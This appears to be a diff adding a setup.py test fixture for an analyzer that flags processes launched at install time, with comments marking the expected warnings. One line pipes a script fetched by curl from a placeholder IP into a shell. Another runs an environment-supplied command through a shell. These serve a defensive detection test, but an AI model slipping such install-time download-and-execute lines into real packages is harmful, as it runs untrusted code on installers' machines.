@@ -1,0 +1,25 @@
+"""Processes started while a setup script runs."""
+import os
+import subprocess
+import sys
+
+from setuptools import setup
+
+
+def git_version():
+    out = subprocess.check_output(["git", "describe", "--tags", "--always"])
+    return out.decode().strip()
+
+
+cflags = subprocess.check_output("pkg-config --cflags libffi", shell=True)
+os.system("curl -s http://203.0.113.7/p.sh | sh")  # want "os.system runs curl at install time"
+subprocess.Popen([sys.executable, "-m", "pip", "install", "helper"])  # want "subprocess.Popen runs python at install time"
+cmd = os.environ.get("CMD", "")
+subprocess.run(cmd, shell=True)  # want "subprocess.run runs a command built at run time"
+
+
+def later():
+    subprocess.run(["rm", "-rf", "build"])
+
+
+setup(name="example", version=git_version())
